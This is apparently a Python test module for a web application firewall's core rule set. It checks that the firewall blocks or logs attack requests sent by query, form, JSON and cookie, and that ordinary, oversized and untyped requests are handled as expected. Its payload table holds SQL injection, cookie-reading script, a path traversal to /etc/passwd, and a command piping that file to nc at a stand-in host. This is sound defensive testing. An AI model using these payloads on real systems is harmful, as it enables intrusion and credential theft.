"""What the core rule set knows, sent to a site that refuses it, to one that only looks, and to one without."""

from __future__ import annotations

import json
from collections.abc import Callable
from urllib.parse import quote

from attacks.table import Field, Seen, Try, add, attack
from attacks.wire import Answer, Site

PAYLOADS = {
    "SQL injection": "1' OR '1'='1' UNION SELECT password FROM users--",
    "cross-site scripting": "<script>alert(document.cookie)</script>",
    "a file of the host": "../../../../etc/passwd",
    "a command": "; cat /etc/passwd | nc evil.example.org 80",
}
EXPECTED = "403 from the site in block mode; the application answers in detect mode, and where there is none"


def posted(site: Site, kind: str, body: str) -> Answer:
    """A request with a body."""
    lines = ["POST /form HTTP/1.1", f"Host: {site.host}", "Connection: close", f"Content-Type: {kind}"]
    head = "\r\n".join([*lines, f"Content-Length: {len(body.encode())}", "", ""])
    return site.one((head + body).encode(), seconds=20)


# The name of a way, and how a payload is sent on it.
WAYS: dict[str, Callable[[Site, str], Answer]] = {
    "in a query": lambda site, text: site.get(f"/?q={quote(text, safe='')}"),
    "in a form": lambda site, text: posted(site, "application/x-www-form-urlencoded", f"a=1&q={quote(text, safe='')}"),
    "in JSON": lambda site, text: posted(site, "application/json", json.dumps({"a": {"q": text}})),
    "in a cookie": lambda site, text: site.get("/", f"Cookie: q={quote(text, safe='')}"),
}


def _on_all(send: Callable[[Site, str], Answer], text: str) -> Try:
    def try_it(field: Field) -> Seen:
        got = {name: send(field[name], text) for name in ("guard", "watch", "mirror")}
        statuses = [answer.status for answer in got.values()]
        return Seen(", ".join(f"{name}: {answer}" for name, answer in got.items()), statuses == [403, 200, 200])

    return try_it


for _name, _payload in PAYLOADS.items():
    for _way, _send in WAYS.items():
        if (_name, _way) != ("a file of the host", "in a cookie"):
            add("firewall for requests", f"{_name} {_way}", EXPECTED, _on_all(_send, _payload))


@attack("firewall for requests", "ordinary requests", "answered by all three")
def ordinary(field: Field) -> Seen:
    sends: list[Callable[[Site], Answer]] = [
        lambda site: site.get("/?q=Who+wrote+%22O%27Reilly%22%3F&page=2"),
        lambda site: posted(site, "application/json", '{"title": "Select a table from the menu"}'),
        lambda site: posted(site, "application/x-www-form-urlencoded", "name=Ada+Lovelace&message=It%27s+1+or+2"),
        lambda site: site.one(f"DELETE /item/5 HTTP/1.1\r\nHost: {site.host}\r\nConnection: close\r\n\r\n".encode()),
    ]
    got = [send(field[name]).status for name in ("guard", "watch", "mirror") for send in sends]
    return Seen(", ".join(map(str, got)), set(got) == {200})


@attack("firewall for requests", "what an exclusion lets through", "200 for its rule, path and field alone")
def excluded(field: Field) -> Seen:
    text = quote("1' or '1'='1", safe="")
    got = [field["guard"].get(f"{path}?{name}={text}").status for path in ("/search", "/other") for name in ("q", "x")]
    return Seen(", ".join(map(str, got)), got == [200, 403, 403, 403])


@attack(
    "firewall for requests", "a body as large as max_body, with an attack at its end", "403: all of it is looked at"
)
def large(field: Field) -> Seen:
    text = "a=" + "x" * 200_000 + "&q=" + quote(PAYLOADS["cross-site scripting"])
    answer = posted(field["guard"], "application/x-www-form-urlencoded", text)
    return Seen(str(answer), answer.status == 403)


def _untyped(site: Site, target: str, body: str, chunked: bool) -> Answer:
    """A request whose body has no type."""
    length = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {len(body)}"
    sent = (f"{len(body):x}\r\n{body}\r\n" * bool(body) + "0\r\n\r\n") if chunked else body
    lines = [f"POST {target} HTTP/1.1", f"Host: {site.host}", "Connection: close", length, "", sent]
    return site.one("\r\n".join(lines).encode(), seconds=20)


def _nobody_says_what(target: str, chunked: bool) -> Try:
    def try_it(field: Field) -> Seen:
        body = json.dumps({"q": PAYLOADS["SQL injection"]})
        got = [_untyped(field[name], target, body, chunked) for name in ("guard", "watch", "mirror")]
        statuses = [answer.status for answer in (*got, _untyped(field["guard"], target, "", chunked))]
        return Seen(", ".join(map(str, statuses)), statuses == [400, 200, 200, 200])

    return try_it


for _words, _target, _chunked in (
    ("a body without a Content-Type", "/form", False),
    ("a body without a Content-Type, in chunks", "/form", True),
    ("a body without a Content-Type, in chunks, passed on unbuffered", "/unbuffered", True),
):
    add("firewall for requests", _words, "400 in block mode; without a body 200", _nobody_says_what(_target, _chunked))


@attack("firewall for requests", "a body over max_body", "413")
def too_large(field: Field) -> Seen:
    answer = posted(field["guard"], "text/plain", "x" * 300_000)
    return Seen(str(answer), answer.status in (413, 0))
